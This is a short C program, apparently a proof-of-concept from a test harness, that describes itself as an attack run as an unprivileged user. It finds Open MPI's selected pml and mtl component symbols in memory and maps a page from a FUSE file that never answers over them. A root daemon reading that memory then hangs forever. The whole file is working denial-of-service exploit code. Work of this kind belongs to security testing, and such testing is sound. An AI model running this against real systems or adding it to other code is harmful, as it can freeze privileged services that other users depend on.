/* Attack (run as nobody): map a page of a file system that never answers a read (the
 * user's own FUSE mount) over the Open MPI data a root daemon reads from the process's
 * memory (the selected pml and mtl components, for a process attached after its
 * MPI_Init). A daemon that reads there on its main thread waits forever.
 * Usage: attack_fuse_page LIBMPI HUNG_FILE READY (READY is created once mapped). */
#include <dlfcn.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: attack_fuse_page LIBMPI HUNG_FILE READY\n");
        return 2;
    }
    void *mpi = dlopen(argv[1], RTLD_NOW | RTLD_GLOBAL);
    if (!mpi) {
        fprintf(stderr, "attack_fuse_page: %s\n", dlerror());
        return 1;
    }
    uintptr_t mtl = (uintptr_t)dlsym(mpi, "ompi_mtl_base_selected_component");
    uintptr_t pml = (uintptr_t)dlsym(mpi, "mca_pml_base_selected_component");
    if (!mtl || !pml) {
        fprintf(stderr, "attack_fuse_page: no component symbols\n");
        return 1;
    }
    uintptr_t lo = (mtl < pml ? mtl : pml) & ~(uintptr_t)4095;
    uintptr_t hi = ((mtl > pml ? mtl : pml) + 4096 + 4095) & ~(uintptr_t)4095;
    int fd = open(argv[2], O_RDONLY);
    if (fd < 0) {
        perror("attack_fuse_page: open");
        return 1;
    }
    /* Opening asks the file system nothing it does not answer; only a fault reads. */
    if (mmap((void *)lo, hi - lo, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, 0) == MAP_FAILED) {
        perror("attack_fuse_page: mmap");
        return 1;
    }
    int r = open(argv[3], O_CREAT | O_WRONLY, 0644);
    if (r >= 0)
        close(r);
    for (;;)
        pause();
}
